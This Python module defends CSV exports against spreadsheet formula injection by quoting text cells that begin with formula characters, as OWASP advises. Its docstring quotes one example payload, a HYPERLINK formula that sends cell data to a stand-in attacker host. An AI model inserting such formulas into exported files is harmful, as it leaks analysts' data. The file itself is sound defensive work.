"""CSV cells a spreadsheet will not run: formula prefixes neutralised (OWASP).

A cell that starts with `=`, `+`, `-` or `@` (or their full-width forms, which some
spreadsheets also read as formulas), a tab, a carriage return or a line feed is read as a
formula by Excel, LibreOffice and Google Sheets: a statement or page title saying
`=HYPERLINK("http://evil.example/?"&A1,"x")` would run in the analyst's spreadsheet. As the
OWASP CSV Injection page recommends, such a cell is prefixed with a single quote, which
spreadsheets show as text; `--raw-csv` writes the values exactly (for programs, not
spreadsheets). Numbers are left alone: only text cells are neutralised.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

#: Leading characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """`value`, with a single quote before a text value a spreadsheet would run.

    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("-1+2"), safe_cell("ok"), safe_cell(-3)
    ('\\'=HYPERLINK("http://x")', "'-1+2", 'ok', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_rows(rows: Iterable[Sequence[Any]]) -> Iterable[list[Any]]:
    """Every row with `safe_cell` applied to each cell."""
    for row in rows:
        yield [safe_cell(v) for v in row]
